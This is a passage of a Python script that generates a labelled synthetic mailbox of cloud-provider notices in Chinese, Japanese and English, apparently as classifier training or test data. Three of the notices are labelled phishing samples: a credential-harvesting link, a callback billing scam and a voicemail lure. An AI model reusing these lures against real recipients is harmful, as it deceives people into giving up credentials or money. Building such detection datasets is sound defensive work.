为提升账单数据的准确性与一致性、方便您核对账单明细，阿里云将于
{dl.isoformat()} 00:00:00（UTC+08）起，调整部分账单查询 API 中“应付金额”（PretaxAmount）
字段的返回逻辑。

变更内容
  调整前：返回支付币种的税前应付金额，即按您实际支付所用币种（如 HKD、MYR）计算。
  调整后：返回定价币种的税前应付金额，即按阿里云定价所用币种（USD）计算。

变更影响
  仅适用于 {dl.isoformat()} 00:00 之后发起的 API 调用。受影响的 API：
  - 查询分账明细：QuerySplitItemBill、DescribeSplitItemBill
  - 实例账单查询：QueryInstanceBill、DescribeInstanceBill
  - 账号账单查询：QueryAccountBill

示例
  某资源定价为 100.25 USD，您以 HKD 支付（汇率 1 USD = 7.78 HKD）：
  调整前返回 "PretaxAmount": 779.95；调整后返回 "PretaxAmount": 100.25

重要提示
  若您的系统调用上述 API 且依赖 PretaxAmount 返回的支付币种金额，请于 {zh(dl)}前
  更新处理逻辑，自行进行汇率换算或调整报表规则。此后，应付金额精度也将逐步由
  2 位小数提升至最多 10 位小数。

如有疑问，请提交工单咨询。感谢您对阿里云的信任与支持！
""")

# ---------------------------------------------------------------- 21 action Tencent Hunyuan models (zh)
s = Shift(D(2026, 5, 20), D(2028, 10, 18))
dl = s(2026, 6, 22)
notice(
    label="action-required", deadline=dl, provider="Tencent Cloud", lang="zh", phishing=False,
    url="https://cloud.tencent.com/document/product/1729/131925",
    from_=("腾讯云", "cloud_noreply@tencent.com"),
    to="ai-dev@xingtu-media.example",
    date=dt.datetime(2028, 10, 18, 16, 1, 21, tzinfo=CST),
    subject="【腾讯混元大模型】旧版本模型下线迁移公告",
    body=f"""尊敬的腾讯云用户，您好！

随着腾讯混元大模型的持续升级，我们将逐步对旧版本模型进行下线调整。按照规划，
下列混元旧版本模型将于北京时间 {zhs(dl)} 00:00 起正式下线，届时不再提供接入服务。
您的账号（账号 ID：100051736284）近期仍在调用其中部分模型。

下线的 model 参数及建议迁移目标：
  hunyuan-turbos-latest    →  hy3-preview
  hunyuan-t1-latest        →  hy3-preview
  hunyuan-standard-256K    →  hy3-preview
  hunyuan-large            →  hy3-preview

此外，原腾讯混元大模型平台将于 {zh(s(2026,9,30))}全面停服下线。

建议您在下线日期前，将调用迁移至 TokenHub，使用最新版本模型。具体操作请参考
《TokenHub 迁移指南》，以免影响业务运行。

如有疑问，请提交工单联系我们。
腾讯云
""")

# ---------------------------------------------------------------- 22 action Azure AD Graph (ja)
s = Shift(D(2024, 12, 5), D(2028, 10, 19))
dl = s(2025, 2, 1)
notice(
    label="action-required", deadline=dl, provider="Microsoft Azure", lang="ja", phishing=False,
    url="https://jpazureid.github.io/blog/azure-active-directory/action-required-azure-ad-graph-api-retirement/",
    from_=("Microsoft Azure", "azure-noreply@microsoft.com"),
    to="it-infra@hoshino-logi.example",
    date=dt.datetime(2028, 10, 19, 8, 40, 0, tzinfo=UTC),
    subject="要対応: Azure AD Graph API の廃止",
    body=f"""Azure AD Graph API の廃止に向けた対応をお願いします

テナント：Hoshino Logistics (hoshinologi.onmicrosoft.example)

影響を先送りする設定を行わない限り、{jas(dl)}以降、アプリケーションから Azure AD Graph API
への呼び出しは失敗します。後継の Microsoft Graph へ直ちに移行し、Azure AD Graph API を
使う新たな開発は行わないでください。

主なスケジュール
・{jas(s(2024,9,1))}：新しいアプリは Microsoft Graph の使用が必須（開始済み）
・{jas(dl)}：延長設定のない既存アプリからの呼び出しが失敗
・{jas(s(2025,7,1))}：Azure AD Graph が完全に廃止（延長設定をしたアプリも利用不可）

お客様のテナントでは、次のアプリが過去 30 日間に Azure AD Graph API を呼び出しています。
・invoice-sync-batch（アプリ ID: 9f3c2e71-4b8a-4d06-a5e2-7c1b0d94e8f3）
・legacy-hr-connector（アプリ ID: 2a7d5b90-e1c4-4f38-8b6a-03e9f5c2d71a）

必要な対応
1. Microsoft Entra 管理センターの [ID] > [概要] > [推奨設定] で、Azure AD Graph を
   使用しているアプリケーションとサービス プリンシパルを確認します。
2. 自社で作成したアプリは、開発者が Microsoft Graph API へ移行します。
3. {jas(dl)}までに移行できない場合は、アプリの authenticationBehaviors で
   blockAzureADGraphAccess を false に設定すると、{jas(s(2025,6,30))}まで利用を延長できます。
4. ベンダー提供のアプリについては、Microsoft Graph 対応版の有無をベンダーに確認してください。

詳細：https://learn.microsoft.com/ja-jp/graph/migrate-azure-ad-graph-overview

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""")

# ---------------------------------------------------------------- 23 maintenance IBM LinuxONE (en)
s = Shift(D(2026, 2, 9), D(2028, 10, 9))
dl = s(2026, 2, 16)
notice(
    label="maintenance", deadline=dl, provider="IBM Cloud (LinuxONE Community Cloud)", lang="en", phishing=False,
    url="https://github.com/nodejs/build/issues/4244",
    from_=("IBM LinuxONE Community Cloud", "linuxone-oss@ibm.com"),
    to="build@northgate-oss.example",
    date=dt.datetime(2028, 10, 9, 10, 12, 0, tzinfo=EDT),
    subject=f"LinuxONE Community Cloud maintenance on {usd(dl)}",
    body=f"""Dear OSS users,

Over the next few weeks we will apply updates to z/VM, KVM and IBM Cloud
Infrastructure Center. In each maintenance window your servers will be
recycled automatically and then brought back up. You do not need to do
anything.

First window: KVM servers
  Date: Monday {usd(dl)}
  Time: 8:30 am ET to 12:30 pm ET
  Your servers may be offline at any point during this window.

Second window: z/VM servers
  Date: Monday {usd(dl)}
  Time: 12 pm ET to 3 pm ET

Servers in your project (oss-build-s390x):
  build-rhel9-s390x-1    (KVM)
  build-ubuntu-s390x-3   (z/VM)

We will let you know if the schedule changes. We apologize for any
inconvenience; please reach out if you have questions.

IBM LinuxONE Community Cloud team
""")

# ---------------------------------------------------------------- 24 maintenance Google BMS (en)
s = Shift(D(2026, 5, 13), D(2028, 10, 4))
dl = s(2026, 5, 27)
notice(
    label="maintenance", deadline=dl, provider="Google Cloud", lang="en", phishing=False,
    url="https://docs.cloud.google.com/bare-metal/docs/upcoming-maintenance-events?authuser=0",
    from_=("Google Cloud", "CloudPlatform-noreply@google.com"),
    to="infra@kanzaki-erp.example",
    date=dt.datetime(2028, 10, 4, 9, 30, 0, tzinfo=PDT),
    subject="[Scheduled maintenance] Bare Metal Solution in asia-northeast1 and asia-northeast3",
    body=f"""Hello Google Cloud customer,

To keep your Bare Metal Solution environment reliable, secure and current, we
occasionally carry out scheduled maintenance on the underlying
infrastructure. This message tells you about an upcoming event that affects
your project.

Project: kanzaki-erp-prod (418273650912)
Regions: asia-northeast1, asia-northeast3
Maintenance window: {mdy(dl)}, 05:00 to 09:30 UTC

What to expect
  - About 10 minutes of service downtime between 07:00 and 08:00 UTC.
  - During that downtime the control plane and APIs won't be available.
  - Apart from the power APIs, API calls submitted or running at that time
    may return an error.
  - Mutating APIs and DAGs will be queued, and provisioning tasks will be
    delayed until the work is finished.

We'll notify you when the event starts and when it ends. For the current
schedule, see the Upcoming maintenance events page in the Bare Metal Solution
documentation.

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043
""")

# ---------------------------------------------------------------- 25 maintenance Azure App Service (ja)
dl = D(2028, 10, 23)
notice(
    label="maintenance", deadline=dl, provider="Microsoft Azure", lang="ja", phishing=False,
    url="https://azure.github.io/jpazpaas/2023/02/16/Routine-Planned-Maintenance-Notifications-for-Azure-App-Service.html",
    from_=("Microsoft Azure", "azure-noreply@microsoft.com"),
    to="webops@rakuyo-shop.example",
    date=dt.datetime(2028, 10, 16, 2, 10, 0, tzinfo=UTC),
    subject="Azure Service Health アラート: 計画メンテナンス - App Service - 東日本",
    body=f"""Azure サービス正常性アラート「appsvc-maint-notice」がアクティブになりました

種類：計画メンテナンス
サービス：App Service、App Service \\ Web Apps
リージョン：東日本
サブスクリプション：rakuyo-web-prod (8e4b2c17-30fa-4d9c-b5e1-6a0f27d93c48)
追跡 ID：MT7K-3Q9

概要
App Service では、新機能や新しいランタイム バージョンの提供、性能の改善、不具合の修正の
ために、プラットフォームを定期的に更新しています。本通知は、お客様のアプリが稼働する
東日本リージョンで、約 7 日後にプラットフォームのアップグレードを予定していることを
事前にお知らせするものです。

予定
開始予定：{jaw(dl)} 営業時間外 (JST) 以降
対象アプリ：rakuyo-shop-web、rakuyo-shop-api

実際の開始時刻は状況により前後します。開始の 60～90 分前と開始時にも通知をお送りし、
実施中は 12 時間ごとに進捗を、終了時には完了をお知らせします。アップグレード中は
アプリの再起動やインスタンスの移動が発生する場合があります。ペア リージョン (西日本) と
同時にアップグレードされることはありません。

確認方法：Azure portal > モニター > Service Health > 計画メンテナンス

このメールは、アクション グループ「ag-webops」の設定に基づいて送信されています。
""")

# ---------------------------------------------------------------- 26 pricing NTT Com FRA (ja)
s = Shift(D(2023, 1, 24), D(2028, 10, 10))
dl = s(2023, 3, 1)
notice(
    label="pricing", deadline=dl, provider="NTTコミュニケーションズ", lang="ja", phishing=False,
    url="https://kc-sdpf-lab3.gcv-cloud.com/news/%e3%80%901-27%e6%8e%b2%e8%bc%89%e4%ba%88%e5%ae%9a%e3%80%91flexible-remote-access%e3%81%ab%e3%81%8a%e3%81%91%e3%82%8b%e3%82%aa%e3%83%b3%e3%83%87%e3%83%9e%e3%83%b3%e3%83%89%e5%8c%96%e3%81%ab%e4%bc%b4/",
    from_=("NTTコミュニケーションズ Smart Data Platform", "sdpf-info@ntt.com"),
    to="net-admin@magome-kogyo.example",
    date=dt.datetime(2028, 10, 10, 13, 0, 0, tzinfo=JST),
    subject="Flexible Remote Access におけるオンデマンド化に伴う仕様変更のご案内",
    body=f"""Flexible Remote Access をご利用のお客さま

平素より Flexible Remote Access（以下 FRA）をご利用いただき、誠にありがとうございます。

FRA では {ja(dl)}より、オンデマンド化を予定しております。
これに伴い、以下の点が変更となりますのでご案内いたします。

■ 主な変更点
1. お申し込み方法
   これまで SO シートで承っていた新規・変更・解約のお申し込みは、SDPF ポータルから
   オンデマンドで行っていただく形になります（一部機能を除く）。
   ※多要素認証、SAML 認証連携、LDAP 認証連携、SSL 復号化、WideAngle 連携は
     引き続き SO シートでのお申し込みとなります。
2. 料金仕様
   開通初月の料金無料を廃止し、分単位の従量課金（月額上限あり）に変更いたします。
   月額上限に達した場合の金額は、現在の月額ご利用料金と変わりません。
3. ご利用料金の確認
   毎月のご利用料金を SDPF ポータルの管理ユーザ画面からご確認いただけます。
4. 故障・メンテナンスのご連絡
   NTT Com お客さまサポートサイトへの掲載に一本化し、SO シートでご登録いただいた
   「工事・故障時連絡先」宛てのご連絡は終了いたします。

ご契約番号：FRA-00731842（magome-kogyo.example）

オンデマンドのお申し込み画面の操作方法は、{ja(dl)}に Knowledge Center へ掲載予定です。
今後とも FRA をよろしくお願い申し上げます。

NTTコミュニケーションズ株式会社
""")

# ---------------------------------------------------------------- 27 pricing IBM MS OS licenses (en)
s = Shift(D(2025, 2, 25), D(2028, 10, 17))
dl = s(2025, 4, 1)
notice(
    label="pricing", deadline=dl, provider="IBM Cloud", lang="en", phishing=False,
    url="https://github.com/ibm-cloud-docs/overview/blob/master/pricing-adjustments.md",
    from_=("IBM Cloud", "no-reply@cloud.ibm.com"),
    to="accounts@vantage-freight.example",
    date=dt.datetime(2028, 10, 17, 10, 0, 0, tzinfo=EDT),
    subject="IBM Cloud price change notification: Microsoft operating system licenses",
    body=f"""Dear IBM Cloud customer,

We are writing to let you know that, effective {mdy(dl)}, IBM Cloud is
changing the prices of Microsoft operating system licenses purchased through
IBM Cloud.

Account: 2947381 (Vantage Freight Systems)

Price changes (current -> new)
  VPC virtual server instance, Standard, vCPU hour: $0.0460 -> $0.051
  VPC bare metal, Standard, vCPU hour: $0.0035 -> $0.0037
  Classic virtual server, Standard / DC, vCPU hour: $0.046 -> $0.051
  Classic virtual server, Standard / DC, vCPU month: $30.58 -> $33.638
  Classic bare metal, Standard, core month: $4.50 -> $4.950
  Classic bare metal, DC, core month: $31.25 -> $34.375
  VMware virtual server, Standard or DC, vCPU hour: $0.019 -> $0.021

The new prices apply automatically from {mdy(dl)} to existing and new
Windows Server licenses on your account.

For the complete list of adjustments, see the Price adjustments topic in the
IBM Cloud documentation.

Thank you for choosing IBM Cloud.
""")

# ---------------------------------------------------------------- 28 billing sakura.io (ja)
s = Shift(D(2017, 11, 1), D(2028, 10, 4))
d0 = s(2017, 11, 1)
prev = (d0.replace(day=1) - dt.timedelta(days=1))
notice(
    label="billing", deadline=None, provider="さくらインターネット", lang="ja", phishing=False,
    url="http://support.sakura.ad.jp/mainte/mainteentry.php?id=22893",
    from_=("さくらインターネット株式会社", "info@sakura.ad.jp"),
    to="iot-team@kitamura-sensor.example",
    date=dt.datetime(2028, 10, 4, 11, 20, 0, tzinfo=JST),
    subject="障害発生のお知らせ（sakura.io の一部通信量計算）",
    body=f"""障 害 発 生 の お 知 ら せ

さくらインターネット株式会社

平素よりさくらインターネットをご利用いただき、誠にありがとうございます。
本日、ご提供サービスにおきまして、以下のとおり障害が発生いたしました。
ご利用中のお客様には大変ご迷惑をおかけいたしましたことを、深くお詫び申し上げます。

< 記 >

発生日時 : {ja0(d0)}01時00分 - {ja0(d0)}02時00分
影響範囲 : {prev.year}年{prev.month}月分の通信量のご請求と表示
障害内容 : 通信量を計算するシステムに障害が発生いたしました。
           {prev.month}月中に送信されたメッセージについて、実際より少ない金額で
           ご請求している可能性がございます。
           本障害に関連した追加のご請求はいたしません。
           また、過大なご請求となるケースはございません。

メッセージの送受信、その他の機能への影響はございません。
なお、本問題は修正済みです。

以上
""")

# ---------------------------------------------------------------- 29 billing Google Cloud invoice (en)
notice(
    label="billing", deadline=None, provider="Google Cloud", lang="en", phishing=False,
    url="https://github.com/fleetingnotes/fleeting-notes-flutter/issues/768",
    from_=("Google Payments", "payments-noreply@google.com"),
    to="billing@fleetwood-notes.example",
    date=dt.datetime(2028, 10, 3, 2, 14, 50, tzinfo=PDT),
    subject="Your Google Cloud Platform & APIs monthly invoice is available",
    html=True,
    body="""Your monthly invoice is ready

Hello,

Your invoice for Google Cloud Platform & APIs for September 2028 is now
available. The balance will be charged automatically to your payment method
on file, so no action is needed.

Billing account name: Fleetwood Notes
Billing account ID: 01A7C2-6D93E4-B58F10
Invoice number: 5183920476
Invoice date: Oct 1, 2028
Amount: $48.27 USD
Payment method: Visa ending in 4417

You can view and download this invoice in the Billing section of the Google
Cloud console:
https://console.cloud.google.com/billing/01A7C2-6D93E4-B58F10/payment

Please don't reply to this email. For billing questions, contact Cloud
Billing Support from the console.

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043 USA
""")

# ---------------------------------------------------------------- 30 informational Azure AD Japan region (ja)
s = Shift(D(2022, 10, 13), D(2028, 10, 12))
notice(
    label="informational", deadline=None, provider="Microsoft Azure", lang="ja", phishing=False,
    url="https://jpazureid.github.io/blog/azure-active-directory/Announcing-a-New-Azure-AD-part-of-Microsoft-Entra-region-in-Japan/",
    from_=("Microsoft Azure", "azure-noreply@microsoft.com"),
    to="sys@sakurazaka-clinic.example",
    date=dt.datetime(2028, 10, 12, 1, 0, 0, tzinfo=UTC),
    subject="お知らせ: Azure AD (Microsoft Entra) の日本リージョン",
    body=f"""Azure Active Directory の日本リージョン提供開始のお知らせ

公共機関や企業でクラウドの活用が進む一方、データの保管場所やプライバシー、
コンプライアンスへの関心も高まっています。

このたび日本のお客様が、日本国内の Microsoft の基盤を通じて、Microsoft Entra の一部である
Azure Active Directory (Azure AD) の機能を利用できるようになりました。

主な内容
・{s(2022,10,13).year} 年 {s(2022,10,13).month} 月より、認証、コア ディレクトリ ストレージ、
  プレミアム機能のストレージを日本から提供します。
・新規のお客様は、Azure AD のデータを日本国内に保存できます。
・日本から送信された認証要求は、日本国内で処理されます。
・日本での Azure AD データの保管に追加料金はかかりません。

既存のお客様への影響
既存テナント（Sakurazaka Clinic / sakurazaka.onmicrosoft.example）のデータは、引き続き
現在の場所に保存されます。日本への移行計画は今後あらためてご案内します。
現時点でお客様に必要な対応はありません。

詳細：https://learn.microsoft.com/ja-jp/azure/active-directory/fundamentals/active-directory-data-storage-japan

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""")

# ---------------------------------------------------------------- 31 informational OCI GoldenGate (en)
s = Shift(D(2021, 4, 2), D(2028, 10, 20))
notice(
    label="informational", deadline=None, provider="Oracle Cloud", lang="en", phishing=False,
    url="https://docs.oracle.com/iaas/releasenotes/changes/44d814ec-8a85-462b-9825-f051357a2c04/index.htm",
    from_=("Oracle Cloud Infrastructure", "noreply@mail.announcements.ap-tokyo-1.oci.oraclecloud.com"),
    to="dba@kurose-data.example",
    date=dt.datetime(2028, 10, 20, 4, 45, 0, tzinfo=UTC),
    subject="OCI Announcement: GoldenGate now available in Japan East (Tokyo)",
    body=f"""Oracle Cloud Infrastructure Announcement

Service: GoldenGate
Announcement type: Region availability
Tenancy: kurose-data
Release date: {mdy(s(2021,4,2))}

Oracle Cloud Infrastructure GoldenGate is now available in the Japan East
(Tokyo) and Brazil East (São Paulo) regions.

Your tenancy is subscribed to Japan East (Tokyo), so you can now create
GoldenGate deployments there from the Console, the CLI or the GoldenGate API.
Deployments in other regions are not affected, and you don't need to do
anything.

For more information, see the Oracle Cloud Infrastructure GoldenGate
documentation and the GoldenGate API reference.

Please do not reply to this message. To manage announcement subscriptions, go
to Governance & Administration > Announcements in the Console.
""")

# ---------------------------------------------------------------- 32 informational IIJ SOC2 (ja)
notice(
    label="informational", deadline=None, provider="IIJ", lang="ja", phishing=False,
    url="https://giolog.iij.ad.jp/",
    from_=("IIJ GIO サポートセンター", "gio-info@iij.ad.jp"),
    to="infra@tsurumi-unyu.example",
    date=dt.datetime(2028, 10, 23, 10, 30, 0, tzinfo=JST),
    subject="【IIJ GIO】お知らせ：IIJ GIOインフラストラクチャーP2「SOC2 Type1」報告書の受領について",
    body="""IIJ GIOインフラストラクチャーP2 をご利用のお客様

平素は IIJ のサービスをご利用いただき、誠にありがとうございます。

このたび IIJ GIOインフラストラクチャーP2（以下 IIJ GIO P2）について、内部統制を評価する
保証基準「SOC2 Type1」の報告書を受領いたしましたので、お知らせいたします。

■ SOC2 報告書について
SOC2 報告書は、米国公認会計士協会（AICPA）が定めた「Trust サービスの原則と規準」に基づき、
受託業務に関する内部統制を第三者の監査法人が評価した報告書です。IaaS である IIJ GIO P2 では、
お客様にシステム基盤をご提供することが受託業務にあたります。評価には、ある時点を対象とする
Type1 と、一定の期間を対象とする Type2 がございます。

■ 今後の予定
現在、期間評価である SOC2 Type2 報告書の受領に向けて準備を進めております。

報告書の閲覧をご希望のお客様には、秘密保持契約の締結後にご提供いたします。
担当営業またはサポートセンターまでお問い合わせください。

本件につきまして、お客様にご対応いただく事項はございません。

株式会社インターネットイニシアティブ
""")

# ---------------------------------------------------------------- 33 advisory GKE containerd (en)
notice(
    label="security-advisory", deadline=None, provider="Google Cloud", lang="en", phishing=False,
    url="https://github.com/dev-obs/actus/issues/420",
    from_=("Google Cloud", "CloudPlatform-noreply@google.com"),
    to="k8s-admins@ravel-games.example",
    date=dt.datetime(2028, 10, 26, 14, 2, 0, tzinfo=PDT),
    subject="GKE security bulletin: containerd vulnerability CVE-2022-23648",
    body="""Hello Google Cloud customer,

We're writing to let you know that Google Kubernetes Engine (GKE) has
published a security bulletin.

Vulnerability: CVE-2022-23648 (containerd)
Severity: High

A flaw in how containerd handles path traversal in the OCI image volume
specification lets a container started through the containerd CRI
implementation with a specially crafted image configuration read any file
or directory on the host. This can get around policy-based controls on
container setup, including a Kubernetes Pod Security Policy.

All GKE node operating systems that use containerd by default
(Container-Optimized OS and Ubuntu) are affected, including Autopilot and
GKE Sandbox nodes.

Patched GKE versions are available. Clusters in a release channel with
auto-upgrade turned on receive the fix through the normal upgrade process.
To apply it sooner, upgrade your node pools manually to one of the patched
versions listed in the bulletin.

Read the full bulletin:
https://cloud.google.com/kubernetes-engine/security-bulletins

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043
""")

# ---------------------------------------------------------------- 34 phishing Sakura (ja)
notice(
    label="action-required", deadline=D(2028, 10, 31), provider="さくらインターネット (impersonated)", lang="ja", phishing=True,
    url="https://support-az.com/2019/10/11/%e3%81%95%e3%81%8f%e3%82%89%e3%82%a4%e3%83%b3%e3%82%bf%e3%83%bc%e3%83%8d%e3%83%83%e3%83%88%e3%82%92%e9%a8%99%e3%82%8b%e3%83%a1%e3%83%bc%e3%83%ab%e3%81%ab%e3%81%94%e6%b3%a8%e6%84%8f",
    from_=("さくらインターネット", "support@sakurawebmail-info.example"),
    to="info@ochiai-koumuten.example",
    date=dt.datetime(2028, 10, 30, 7, 48, 19, tzinfo=JST),
    subject="【さくらインターネット】メールアカウントの確認が必要です",
    body="""さくらインターネット をご利用のお客様

いつもさくらのレンタルサーバをご利用いただき、ありがとうございます。

お客様のメールアカウント（info@ochiai-koumuten.example）について、
システム更新に伴うアカウント確認がまだ完了しておりません。
確認が完了していない場合、メールの送受信が制限されます。

本メール受信後24時間以内に、下記のリンクからログインしてアカウントの確認を
行ってください。期限を過ぎた場合、アカウントは一時停止となります。

▼アカウント確認はこちら
http://sakurawebmail.co.ad-jp.example/webmail/verify?id=4821

※本メールは送信専用のため、ご返信いただいてもお答えできません。

さくらインターネット株式会社
カスタマーセンター
""")

# ---------------------------------------------------------------- 35 phishing Azure Monitor callback (en)
notice(
    label="billing", deadline=None, provider="Microsoft Azure (impersonated via Azure Monitor)", lang="en", phishing=True,
    url="https://www.dejesus.dev/research/azure-monitor-callback-phishing",
    from_=("Microsoft Azure", "azure-noreply@microsoft.com"),
    to="accounts-payable@brightwater-labs.example",
    date=dt.datetime(2028, 10, 25, 14, 3, 55, tzinfo=UTC),
    subject="Azure: Activated Severity: 2 billing-notice-7731",
    html=True,
    body="""Azure Monitor alert

Your Azure Monitor alert was triggered

Alert rule: billing-notice-7731
Severity: Sev2
Monitor condition: Fired
Fired time: October 25, 2028 14:02 UTC

Alert rule description:
MICROSOFT CORPORATION BILLING AND ACCOUNT SECURITY NOTICE
(REF: MS-FRA-4471902-QZ)
A payment of $389.90 USD for Windows Defender Advanced Protection (annual
plan) has been approved on your account.
Transaction ID: PP4471-902Q-38Z
If you did not make this purchase, your account may be at risk. Call the
Microsoft Billing Security Desk at +1 (555) 014-2276 to cancel the order and
get a refund. Do not reply to this email.

View the alert in Azure Monitor:
https://portal.azure.com/#view/Microsoft_Azure_Monitoring/AlertDetails.ReactView

You're receiving this notification because you're a member of the action
group "billing-alerts-7731".
""")

# ---------------------------------------------------------------- 36 phishing Google App Integration (en)
notice(
    label="informational", deadline=None, provider="Google Workspace (impersonated via Application Integration)", lang="en", phishing=True,
    url="https://outphish.com/the-google-cloud-phishing-loophole-how-small-business-email-security-automation-protects-your-team",
    from_=("Voicemail Notification", "noreply-application-integration@google.com"),
    to="j.whitaker@corbel-partners.example",
    date=dt.datetime(2028, 10, 31, 9, 16, 3, tzinfo=EDT),
    subject="New voicemail from +1 (555) 013-8842 (0:47)",
    html=True,
    body="""You have received a new voicemail

Caller: +1 (555) 013-8842
For: j.whitaker@corbel-partners.example
Received: Tue, Oct 31, 2028 9:14 AM
Length: 0:47
Transcription: not available

The message has been saved to your Google Workspace voice mailbox. You can
play the recording and download a copy from the secure link below.

Play voicemail:
https://storage.googleapis.com/vm-inbox-7731/message.html?ref=jwhitaker

Google Workspace
This notification was sent from an address that cannot accept replies.
""")


# ============================================================== build
def is_ascii(t):
    try:
        t.encode("ascii")
        return True
    except UnicodeEncodeError:
        return False


def make_part(text, subtype, lang):
    if is_ascii(text):
        return MIMEText(text, subtype, "us-ascii")
    cs = Charset("utf-8")
    cs.header_encoding = BASE64
    cs.body_encoding = BASE64 if lang in ("ja", "zh") else QP
    part = MIMEText("", subtype)
    del part["Content-Transfer-Encoding"]
    part.set_payload(text, cs)
    return part


def to_html(text):
    import html as _h
    out = ["<html><body style=\"font-family:Arial,sans-serif;font-size:14px\">"]
    for para in text.strip("\n").split("\n\n"):
        lines = [_h.escape(l) for l in para.split("\n")]
        out.append("<p>" + "<br>\n".join(lines) + "</p>")
    out.append("</body></html>")
    return "\n".join(out) + "\n"


def enc_header(value):
    if is_ascii(value):
        return value
    return Header(value, "utf-8").encode()


def build(idx, n):
    body = n["body"]
    if n.get("html"):
        msg = MIMEMultipart("alternative")
        msg.attach(make_part(body, "plain", n["lang"]))
        msg.attach(make_part(to_html(body), "html", n["lang"]))
        bh = hashlib.sha1(f"{NAME}-boundary-{idx}".encode()).hexdigest()[:24]
        msg.set_boundary(f"=_{NAME}_{idx:02d}_{bh}")
    else:
        msg = make_part(body, "plain", n["lang"])
    name, addr = n["from_"]
    msg["From"] = formataddr((name, addr), charset="utf-8")
    msg["To"] = n["to"]
    if is_ascii(n["subject"]):
        msg["Subject"] = n["subject"]
    else:
        msg["Subject"] = Header(n["subject"], "utf-8", header_name="Subject")
    msg["Date"] = format_datetime(n["date"])
    h = hashlib.sha1(f"{NAME}-{idx}-{n['subject']}".encode()).hexdigest()[:20]
    msg["Message-ID"] = f"<{h}.{idx:02d}@{addr.split('@')[1]}>"
    if "MIME-Version" not in msg:
        msg["MIME-Version"] = "1.0"
    msg["X-Training-Label"] = n["label"]
    msg["X-Training-Deadline"] = n["deadline"].isoformat() if n["deadline"] else "none"
    if n["phishing"]:
        msg["X-Training-Phishing"] = "yes"
    buf = io.BytesIO()
    g = generator.BytesGenerator(buf, mangle_from_=False, maxheaderlen=78)
    g.flatten(msg)
    raw = buf.getvalue().replace(b"\r\n", b"\n")
    lines = raw.split(b"\n")
    out = []
    in_body = False
    for ln in lines:
        if not in_body and ln == b"":
            in_body = True
        elif in_body and ln.startswith(b"From "):
            ln = b">" + ln
        out.append(ln)
    utc = n["date"].astimezone(UTC)
    fromline = f"From {addr} {utc.strftime('%a %b %d %H:%M:%S %Y')}".encode()
    data = b"\n".join(out)
    if not data.endswith(b"\n"):
        data += b"\n"
    return fromline + b"\n" + data + b"\n"


def plain_of(msg):
    if msg.is_multipart():
        for p in msg.walk():
            if p.get_content_type() == "text/plain":
                return p.get_payload(decode=True).decode(p.get_content_charset() or "us-ascii")
        return None
    return msg.get_payload(decode=True).decode(msg.get_content_charset() or "us-ascii")


def main():
    problems = []
    # sanity on inputs
    for i, n in enumerate(NOTICES, 1):
        if n["label"] not in LABELS:
            problems.append(f"#{i}: unknown label {n['label']}")
        d = n["date"]
        if not (d.year == 2028 and d.month == 10):
            problems.append(f"#{i}: date not in October 2028")
        if n["deadline"] is not None and n["deadline"] < d.date():
            problems.append(f"#{i}: deadline before date")
        nl = len(n["body"].rstrip("\n").split("\n"))
        if not 8 <= nl <= 40:
            problems.append(f"#{i}: body has {nl} lines")
    with open(MBOX, "wb") as f:
        for i, n in enumerate(NOTICES, 1):
            f.write(build(i, n))

    # re-read
    box = mailbox.mbox(MBOX, create=False)
    msgs = list(box)
    if len(msgs) != len(NOTICES):
        problems.append(f"read back {len(msgs)} messages, expected {len(NOTICES)}")
    for i, (m, n) in enumerate(zip(msgs, NOTICES), 1):
        for hname in ("From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Content-Type"):
            if m[hname] is None:
                problems.append(f"#{i}: missing {hname}")
        subj_raw = re.sub(r"\r?\n(?=[ \t])", "", m["Subject"])
        subj = str(make_header(decode_header(subj_raw)))
        if subj != n["subject"]:
            problems.append(f"#{i}: subject mismatch: {subj!r}")
        if m["X-Training-Label"] != n["label"]:
            problems.append(f"#{i}: label mismatch")
        want_dl = n["deadline"].isoformat() if n["deadline"] else "none"
        got_dl = m["X-Training-Deadline"]
        if got_dl != want_dl:
            problems.append(f"#{i}: deadline mismatch")
        if got_dl != "none":
            try:
                dd = dt.date.fromisoformat(got_dl)
            except ValueError:
                problems.append(f"#{i}: bad deadline {got_dl}")
                dd = None
            hd = parsedate_to_datetime(m["Date"])
            if dd and dd < hd.date():
                problems.append(f"#{i}: deadline before Date header")
        if (m["X-Training-Phishing"] == "yes") != n["phishing"]:
            problems.append(f"#{i}: phishing flag mismatch")
        hd = parsedate_to_datetime(m["Date"])
        if hd != n["date"]:
            problems.append(f"#{i}: date mismatch")
        txt = plain_of(m)
        if txt is None:
            problems.append(f"#{i}: no text/plain part")
        else:
            txt = "\n".join(l[1:] if l.startswith(">From ") else l for l in txt.split("\n"))
            if txt.replace("\r\n", "\n") != n["body"]:
                problems.append(f"#{i}: body mismatch")
        for raw_h in m.keys():
            v = m[raw_h]
            if not is_ascii(str(v)):
                problems.append(f"#{i}: non-ASCII raw header {raw_h}")

    # mix
    nonp = [n for n in NOTICES if not n["phishing"]]
    cnt = {l: sum(1 for n in nonp if n["label"] == l) for l in LABELS}
    crit = cnt["abuse"] + cnt["security-incident"]
    ph = sum(1 for n in NOTICES if n["phishing"])
    if len(NOTICES) != 36:
        problems.append(f"{len(NOTICES)} notices, expected 36")
    if crit < 11:
        problems.append(f"only {crit} critical")
    if cnt["action-required"] < 6:
        problems.append("fewer than 6 action-required")
    for l, want in (("maintenance", 3), ("pricing", 2), ("billing", 2),
                    ("informational", 3), ("security-advisory", 1)):
        if cnt[l] != want:
            problems.append(f"{l}: {cnt[l]} (want {want})")
    if ph != 3:
        problems.append(f"{ph} phishing, expected 3")
    if sum(1 for n in NOTICES if n["lang"] == "ja") < 6:
        problems.append("fewer than 6 Japanese notices")
    if sum(1 for n in NOTICES if n["lang"] == "zh") < 2:
        problems.append("fewer than 2 Chinese notices")
    urls = [n["url"] for n in NOTICES]
    if len(set(urls)) != len(urls):
        problems.append("duplicate source URL")

    # README and used-sources
    with open(USED, "w", encoding="utf-8") as f:
        for u in urls:
            f.write(u + "\n")
    langs = {"ja": "Japanese", "zh": "Chinese", "en": "English"}
    provs = sorted({n["provider"] for n in NOTICES})
    rows = []
    for i, n in enumerate(NOTICES, 1):
        dlv = n["deadline"].isoformat() if n["deadline"] else "none"
